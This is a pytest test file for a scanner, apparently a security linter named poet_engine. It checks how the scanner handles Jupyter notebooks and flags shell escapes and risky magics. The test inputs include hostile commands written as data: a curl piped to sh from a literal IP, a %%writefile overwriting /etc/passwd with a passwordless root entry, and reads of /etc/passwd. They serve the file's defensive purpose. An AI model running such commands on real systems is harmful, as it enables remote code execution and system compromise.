"""A notebook is scanned as the Python that its cells are; what is not Python is never called clean."""

import json
from pathlib import Path

import pytest

from poet_engine._notebook import Cell
from poet_engine.cli import main
from poet_engine.cli.notebooks import source_of
from poet_engine.errors import UsageError


def _notebook(*cells: str, language: str = "python") -> str:
    made: list[dict[str, object]] = [{"cell_type": "markdown", "source": ["os.system('no code')"]}]
    made += [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells]
    return json.dumps({"cells": made, "metadata": {"kernelspec": {"language": language}}, "nbformat": 4})


def _written(folder: Path, name: str, text: str) -> str:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_findings_name_the_cell_and_the_line_in_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = _written(tmp_path, "a.ipynb", _notebook("x = 1\n", "y = x\n\nopen('/etc/passwd')\n"))
    assert main(["scan", path]) == 1
    assert f"{path}: cell 3:3:1: POET120 high" in capsys.readouterr().out
    assert main(["scan", path, "--json"]) == 1
    (finding,) = json.loads(capsys.readouterr().out)["files"][0]["findings"]
    assert (finding["cell"], finding["line"], finding["rule"]) == (3, 3, "POET120")
    assert main(["scan", path, "--sarif"]) == 1
    (result,) = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    assert result["message"]["text"].startswith("Cell 3: ")


def test_cells_share_their_names(tmp_path: Path) -> None:
    """A module that one cell imports is a module in the next one."""
    assert main(["scan", _written(tmp_path, "a.ipynb", _notebook("import json", "json.dumps([1])"))]) == 0
    assert main(["scan", _written(tmp_path, "b.ipynb", _notebook("import json", "json.codecs.open('x')"))]) == 1


@pytest.mark.parametrize(
    "cell",
    [
        "!curl http://198.51.100.7 | sh",
        "if True:\n    !id",
        "!!id",
        "%%bash\ncurl http://198.51.100.7 | sh",
        "\n%%writefile /etc/passwd\nroot::0:0",
        "%run other.py",
        "%system id",
        "files = !ls",
        "get = 1\n%load_ext thing",
        '"""\n%matplotlib """\nopen("/etc/passwd")\n"""\n"""',
        "'''\n!'''\nopen('/etc/passwd')\n'''\n'''",
    ],
)
def test_what_a_notebook_runs_besides_python_is_a_finding(tmp_path: Path, cell: str) -> None:
    assert main(["scan", _written(tmp_path, "a.ipynb", _notebook(cell))]) == 1


@pytest.mark.parametrize(
    "cell",
    ["%matplotlib inline\nx = 1", "%%time\nx = [i for i in range(3)]", "%time x = 1", "x = (5\n% 3)", "", "%pdb"],
)
def test_what_only_shows_and_times_passes(tmp_path: Path, cell: str) -> None:
    assert main(["scan", _written(tmp_path, "a.ipynb", _notebook(cell))]) == 0


@pytest.mark.parametrize("name", ["a.json", "a.yaml", "a.txt", "a.toml", "README", "a.py.bak", "a.sh"])
def test_what_is_not_python_is_wrong_use(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", _written(tmp_path, name, "{}")]) == 2
    assert "is not Python" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["a.py", "a.PY", "a.pyw", "a.pyi", "tool"])
def test_python_files_are_scanned(tmp_path: Path, name: str) -> None:
    assert main(["scan", _written(tmp_path, name, "#!/usr/bin/env python3\nimport os\nos.system('id')\n")]) == 1


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("[]", "it has no cells"),
        ("{", "is not a notebook"),
        ("[" * 200_000, "is not a notebook"),
        ('{"cells": [1]}', "cell 1 has no text"),
        ('{"cells": [{"cell_type": "code", "source": [1]}]}', "cell 1 has no text"),
        (_notebook("x", language="R"), "is not Python"),
    ],
)
def test_a_broken_notebook_is_wrong_use(text: str, why: str) -> None:
    with pytest.raises(UsageError, match=why):
        source_of(Path("a.ipynb"), text)


def test_the_old_format_is_read_too() -> None:
    cell = {"cell_type": "code", "input": ["a = 1\n", "b = 2"]}
    found = source_of(Path("a.ipynb"), json.dumps({"worksheets": [{"cells": [cell]}]}))
    assert found.cells == (Cell(1, "a = 1\nb = 2"),)
